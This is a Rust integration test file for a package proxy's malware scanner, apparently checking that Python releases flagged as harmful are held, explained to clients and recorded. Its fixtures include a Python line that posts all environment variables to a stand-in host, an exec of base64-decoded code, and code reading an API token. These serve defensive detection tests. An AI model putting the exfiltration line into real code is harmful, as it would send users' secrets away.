//! Archives are scanned before any client has them whole, and what was found stops them in the client's own words.

use std::time::Duration;

use fanlight_testkit::{Advisory, Clients, Fault, Release, Request, State, Upstream, get, wait_for};
use fanlight_tests::{Browser, listed, record_of, records_of};
use serde_json::{Value, json};

/// Reads as theft and does nothing: no variable of that name is ever set, and nobody imports it here.
const THEFT: &str = "import os, urllib.request\nif os.environ.get('NEVER_SET_ANYWHERE'):\n    urllib.request.urlopen('http://c.example.invalid', data=str(os.environ).encode())\n";
const FOUND: &str = "collects private data and sends it away";

#[test]
fn what_the_scan_finds_is_told_to_real_clients_and_the_rest_installs() {
    let upstream = Upstream::with([
        Release::new("harmful", "1.0").with_code(THEFT),
        Release::new("honest", "1.0").with_code("import os\nHOME = os.environ.get('HOME')\n"),
    ]);
    let state = State::before(&upstream, "");
    let node = state.start();
    for client in Clients::get().all() {
        let room = client.room();
        room.install(&node.index(), &["honest"]).ok();
        room.install(&node.index(), &["harmful==1.0"]).fails().says("the scan of harmful-1.0-py3-none-any.whl found");
        assert_eq!(room.installed("harmful"), None, "{}", client.name);
    }
    let file = "harmful-1.0-py3-none-any.whl";
    let refused = get(&node.file("harmful", file)).says(FOUND);
    assert!([403, 451].contains(&refused.status), "{refused:?}");
    let record = record_of(&state, &refused);
    assert_eq!((&record["decision"]["outcome"], &record["facts"]["scan"]), (&"hold".into(), &"high".into()));
    let entry = listed(&node, "harmful", file);
    assert!(entry["yanked"].as_str().is_some_and(|why| why.contains(FOUND)), "index and file agree: {entry}");
    state.cli(&["why", "harmful"]).says(FOUND);
    assert!(records_of(&state, "packages:delivery").iter().any(|record| record["facts"]["bytes"] == 0));
    // What was found outlives the node.
    drop(node);
    let node = state.start();
    get(&node.file("harmful", file)).says(FOUND).is(refused.status);
}

#[test]
fn a_release_is_looked_into_by_the_node_also_where_it_is_refused_and_no_byte_of_it_comes_out() {
    let upstream = Upstream::with([
        Release::new("eager", "1.0").with_code("x = 1\n").with_sdist(),
        Release::new("eager", "2.0").seconds_old(3600).with_code(THEFT),
    ]);
    let config = State::config(&upstream, "7d", "").replacen("[packages]\n", "[packages]\nprivate = [\"acme-*\"]\n", 1);
    let state = State::with_config(&config);
    let node = state.start();
    let wheel = "eager-2.0-py3-none-any.whl";
    let scan = |args: &[&str]| state.cli(&[&["scan"], args].concat());
    let said = scan(&["pkg:pypi/eager@2.0"]).exits(1).says(FOUND).says("pkg:pypi/eager@2.0#eager-2.0-py3-none-any.whl");
    said.says("pkg:pypi/eager@2.0 is held here: eager 2.0 was published");
    // Fetched once, kept, and still refused to whoever asks for it; nobody has it.
    let json = scan(&["eager==2.0", "--json", "--fail-on", "never"]).ok().json();
    let report = &json["archives"][0]["report"];
    assert_eq!((&report["verdict"], &json["rules"]), (&"unsafe".into(), &report["rules"]), "{json}");
    assert_eq!(upstream.count(&format!("/files/eager/{wheel}")), 1, "{:?}", upstream.seen());
    get(&node.file("eager", wheel)).is(403);
    state.cli(&["who", "eager==2.0"]).ok().says("Nobody received pkg:pypi/eager@2.0 here");
    let sarif = scan(&["pkg:pypi/eager@2.0", "--sarif"]).exits(1).json();
    let place = &sarif["runs"][0]["artifacts"][0]["location"]["uri"];
    assert_eq!(place, "pkg%3Apypi/eager@2.0%23eager-2.0-py3-none-any.whl", "{sarif}");
    // Without a version the newest that is allowed, all its files or the one that is named.
    let json = scan(&["pkg:pypi/eager", "--json"]).ok().json();
    let files: Vec<_> = json["archives"].as_array().expect("files").iter().map(|one| one["path"].clone()).collect();
    assert_eq!(
        files,
        ["pkg:pypi/eager@1.0#eager-1.0.tar.gz", "pkg:pypi/eager@1.0#eager-1.0-py3-none-any.whl"],
        "{json}"
    );
    scan(&["pkg:pypi/eager@1.0", "--file", "eager-1.0.tar.gz"]).ok().says("1 archive").says("nothing found");
    scan(&["pkg:pypi/eager@1.0", "--file", "other.whl"]).exits(1).says("has no such file").says("eager-1.0.tar.gz");
    scan(&["pkg:pypi/eager@7.0"]).exits(1).says("does not list");
    scan(&["pkg:pypi/acme-tool@1.0"]).exits(1).says("is a private name here");
    scan(&["pkg:pypi/eager@1.0", wheel]).exits(2).says("cannot be scanned in one run");
    scan(&["pkg:pypi/eager@1.0", "--rules", "."]).exits(2).says("by its own rules");
    // Who asked for what is in the record, beside whoever fetched something.
    let asked = records_of(&state, "console:scan");
    assert_eq!(asked[0]["on"], serde_json::json!({"kind": "Release", "id": "pkg:pypi/eager@2.0"}));
    assert!(records_of(&state, "packages:fetch-file").iter().all(|record| record["decision"]["outcome"] == "hold"));
    // What cannot be had is said, and is no clean bill.
    upstream.add(&Release::new("broken", "1.0"));
    upstream.fault("/files/broken/broken-1.0-py3-none-any.whl", Fault::Status(500));
    scan(&["pkg:pypi/broken@1.0"]).exits(3).says("broken-1.0-py3-none-any.whl could not be had");
    assert_eq!(records_of(&state, "packages:upstream-fault").len(), 1);
}

#[test]
fn what_is_refused_is_quoted_to_who_judges_it_and_to_nobody_else() {
    let upstream = Upstream::with([
        Release::new("eager", "1.0").with_code(THEFT),
        Release::new("fresh", "1.0")
            .seconds_old(3600)
            .with_code("exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"),
    ]);
    let state = State::before(&upstream, "");
    let node = state.start();
    let _asha = Browser::first_steward(&state, &node, "asha");
    let (ben, cleo) =
        (Browser::invited(&state, &node, "ben", None), Browser::invited(&state, &node, "cleo", Some("reviewer")));
    let quotes = |who: &Browser, purl: &str| -> Vec<String> {
        let answer = who.post("scan", &json!({ "purl": purl })).is(200);
        let lines =
            answer.text().lines().map(|line| serde_json::from_str::<Value>(line).expect("JSON")).collect::<Vec<_>>();
        let findings = lines.iter().find_map(|line| line["report"]["findings"].as_array()).expect("findings");
        assert!(!findings.is_empty(), "{lines:?}");
        findings.iter().map(|found| found["evidence"].as_str().expect("evidence").to_owned()).collect()
    };
    // Whoever has it scanned first is told what is found, and nothing is quoted of what is held by it.
    assert!(quotes(&ben, "pkg:pypi/eager@1.0").iter().all(String::is_empty), "what was just found holds it");
    for purl in ["pkg:pypi/eager@1.0", "pkg:pypi/fresh@1.0"] {
        assert!(quotes(&cleo, purl).iter().any(|quote| !quote.is_empty()), "{purl} is reviewed");
        // Held by now: for its age, or for what the scan has just found.
        assert!(quotes(&ben, purl).iter().all(String::is_empty), "{purl} is held");
    }
    // A device token gives the node no work.
    state.cli(&["use", "pip"]).ok();
    let settings = std::fs::read_to_string(state.home().join(".config/pip/pip.conf")).expect("settings");
    let start = settings.find("flk_").expect("a token");
    let token: String = settings[start..].chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
    let ask = Request::new("POST", &format!("{}/v1/scan", node.url())).body("{\"purl\": \"pkg:pypi/eager@1.0\"}");
    ask.header("Authorization", &format!("Bearer {token}")).send().is(403).says("gives it no work");
}

#[test]
fn what_is_yet_to_be_scanned_is_said_to_be_until_it_was() {
    let upstream = Upstream::with([
        Release::new("eager", "1.0").with_code(THEFT),
        Release::new("eager", "0.9").with_code("x = 1\n"),
        Release::new("eager", "2.0").seconds_old(3600),
    ]);
    let state = State::before(&upstream, "");
    let _node = state.start();
    let to_come = "It is yet to be scanned: that is done when somebody fetches it first";
    state.cli(&["why", "eager==1.0"]).ok().says("eager 1.0 is allowed").says(to_come);
    state.cli(&["why", "eager==2.0"]).says("eager 2.0 is held").keeps_quiet_about(to_come);
    state.cli(&["why", "eager"]).ok().says("not scanned yet").says("and what is found may stop it");
    state.cli(&["look", "eager==1.0"]).ok().says(to_come).says("What the scan finds in its files");
    state
        .cli(&["ask", "eager==1.0", "--because", "a trial"])
        .exits(1)
        .says("it is scanned when somebody fetches it first");
    let judged = |what: &str| state.cli(&["look", what, "--json"]).ok().json()["judged"].clone();
    assert_eq!(
        (&judged("eager==1.0")["scan_to_come"], &judged("eager==2.0")["scan_to_come"]),
        (&true.into(), &Value::Null)
    );
    // Whoever has it scanned is told that it is held by now, and everybody else from then on.
    let scan = |what: &str| state.cli(&["scan", what, "--fail-on", "never"]).ok();
    scan("pkg:pypi/eager@1.0")
        .says("eager-1.0-py3-none-any.whl of pkg:pypi/eager@1.0 is held here, now that it was scanned")
        .says(FOUND);
    state.cli(&["why", "eager==1.0"]).says("eager 1.0 is held").says(FOUND).keeps_quiet_about(to_come);
    scan("pkg:pypi/eager@0.9").keeps_quiet_about("now that it was scanned");
    state.cli(&["why", "eager==0.9"]).says("eager 0.9 is allowed").keeps_quiet_about(to_come);
    state.cli(&["look", "eager==0.9"]).keeps_quiet_about(to_come).keeps_quiet_about("What the scan finds in");
}

#[test]
fn the_record_of_a_look_says_which_file_of_which_release() {
    let upstream = Upstream::with([Release::new("eager", "1.0").with_code("x = 1\n").with_sdist()]);
    let state = State::before(&upstream, "");
    let node = state.start();
    state.cli(&["scan", "pkg:pypi/eager"]).ok();
    let records = records_of(&state, "console:scan");
    let release = json!({"kind": "Release", "id": "pkg:pypi/eager@1.0"});
    assert!(records.len() == 2 && records.iter().all(|record| record["on"] == release), "{records:?}");
    let files: Vec<_> = records.iter().filter_map(|record| record["facts"]["file"].as_str()).collect();
    assert_eq!(files, ["eager-1.0.tar.gz", "eager-1.0-py3-none-any.whl"]);
    for (record, file) in records.iter().zip(files) {
        let digest = listed(&node, "eager", file)["hashes"]["sha256"].as_str().expect("a hash").to_owned();
        assert_eq!(record["facts"]["digest"], format!("sha256:{digest}"));
    }
    // What comes to no look is recorded as it was asked for.
    state.cli(&["scan", "pkg:pypi/eager@7.0"]).exits(1);
    state.cli(&["scan", "pkg:pypi/nothing-of-the-kind"]).exits(1);
    let on = |record: &Value| record["on"]["id"].as_str().map(str::to_owned);
    let asked: Vec<_> = records_of(&state, "console:scan").iter().skip(2).filter_map(on).collect();
    assert_eq!(asked, ["pkg:pypi/eager@7.0", "pkg:pypi/nothing-of-the-kind"]);
    assert!(records_of(&state, "console:scan").iter().skip(2).all(|record| record["facts"]["file"].is_null()));
}

#[test]
fn a_large_file_is_cut_at_its_end_and_the_next_try_is_told_why() {
    let upstream = Upstream::with([
        Release::new("large", "1.0").padded(33 << 20).with_code(THEFT),
        Release::new("vast", "1.0").padded(33 << 20),
    ]);
    let state = State::before(&upstream, "");
    let node = state.start();
    let file = "large-1.0-py3-none-any.whl";
    let whole = upstream.bytes("large", file).len();
    let first = get(&node.file("large", file)).is(200);
    assert!(!first.complete && first.body.len() <= whole - 64 * 1024, "{} of {whole} bytes", first.body.len());
    assert!(first.body.len() > 30 << 20, "it flowed meanwhile: {} bytes", first.body.len());
    // Why it was cut is a decision of its own beside the one that let it begin, and how much had gone out stands there, too.
    let of_first = |record: &Value| record["request"].as_str() == first.request_id();
    let told = wait_for("the records of the cut", Duration::from_secs(10), || {
        let told: Vec<_> = state.records().into_iter().filter(of_first).collect();
        told.iter().any(|record| record["facts"]["delivery"] == "cut").then_some(told)
    });
    let outcomes: Vec<_> =
        told.iter().map(|record| record["decision"]["outcome"].as_str().expect("an outcome")).collect();
    assert_eq!(outcomes, ["allow", "hold", "allow"], "{told:?}");
    assert_eq!(told[1]["decision"]["policies"], serde_json::json!(["scan-found"]));
    assert!(told[2]["facts"]["bytes"].as_u64().is_some_and(|bytes| bytes > 30 << 20), "{told:?}");
    let who = state.cli(&["who", "pkg:pypi/large@1.0", "--json"]).ok().json();
    assert!(who["refused"].as_array().is_some_and(|refused| !refused.is_empty()), "{who}");
    get(&node.file("large", file)).says(FOUND);
    let vast = get(&node.file("vast", "vast-1.0-py3-none-any.whl")).is(200);
    assert!(vast.complete);
}

#[test]
fn a_companys_rules_are_taken_up_and_judge_what_is_cached() {
    let upstream = Upstream::with([Release::new("ours", "1.0").with_code("acme_internal = 1\n")]);
    let state = State::before(&upstream, "");
    let node = state.start();
    let file = "ours-1.0-py3-none-any.whl";
    get(&node.file("ours", file)).is(200);
    let rules = state.path().join("scan");
    std::fs::create_dir(&rules).unwrap();
    let rule = "rule own { meta: severity = \"high\" confidence = \"high\" title = \"names what is ours\" strings: $a = \"acme_internal\" condition: $a }";
    std::fs::write(rules.join("own.yar"), rule).unwrap();
    let refused = wait_for("the company's rule", Duration::from_secs(20), || {
        let answer = get(&node.file("ours", file));
        (answer.status != 200).then_some(answer)
    });
    refused.says("names what is ours");
}

#[test]
fn a_release_that_begins_to_read_secrets_is_told_beside_the_one_before() {
    let reads = "import os, urllib.request\nKEY = os.environ.get('API_TOKEN')\nASK = urllib.request.urlopen\n";
    let upstream = Upstream::with([
        Release::new("steady", "1.0").with_code("x = 1\n"),
        Release::new("steady", "1.1").with_code(reads),
        Release::new("steady", "1.2").with_code(&format!("{reads}x = 2\n")),
    ]);
    let state = State::before(&upstream, "");
    let node = state.start();
    let told = |version: &str| {
        let file = node.file("steady", &format!("steady-{version}-py3-none-any.whl"));
        get(&file).is(200);
        record_of(&state, &get(&file).is(200))["facts"].clone()
    };
    assert_eq!(told("1.0")["scan"], "clean");
    let facts = told("1.1");
    let words = "does something that the release before did not: reads environment variables that may hold secrets, for \
                 the first time, when it is imported";
    assert_eq!((&facts["scan"], &facts["scan_finding"]), (&"medium".into(), &words.into()));
    assert_eq!(told("1.2")["scan"], "clean", "the one before did so already");
}

#[test]
fn a_fix_that_passes_the_wait_does_not_pass_the_scan() {
    let hour = 3600;
    let upstream = Upstream::with([
        Release::new("holey", "1.0").days_old(60),
        Release::new("holey", "1.1").seconds_old(hour).with_code(THEFT),
        Release::new("leaky", "1.0").days_old(60),
        Release::new("leaky", "1.1").seconds_old(hour),
    ]);
    let state = State::before(&upstream, "");
    state.advise(&Advisory::new("GHSA-ssss-0000-0001", "holey").fixed("1.1").critical());
    state.advise(&Advisory::new("GHSA-ssss-0000-0002", "leaky").fixed("1.1").critical());
    let settings = format!("[advisories]\nsources = [{:?}]\n", state.feed().display().to_string());
    state.configure(&State::config(&upstream, "7d", &settings));
    let node = state.start();
    let fetched = |project: &str| get(&node.file(project, &format!("{project}-1.1-py3-none-any.whl")));
    fetched("leaky").is(200);
    fetched("holey").says(FOUND);
    let record = record_of(&state, &fetched("holey").says(FOUND));
    let facts = &record["facts"];
    assert_eq!((&facts["replaces_affected"], &facts["scan"]), (&true.into(), &"high".into()), "{facts}");
    let reason = listed(&node, "holey", "holey-1.1-py3-none-any.whl")["yanked"].clone();
    assert!(reason.as_str().is_some_and(|why| why.contains(FOUND) && !why.contains("new releases wait")), "{reason}");
}
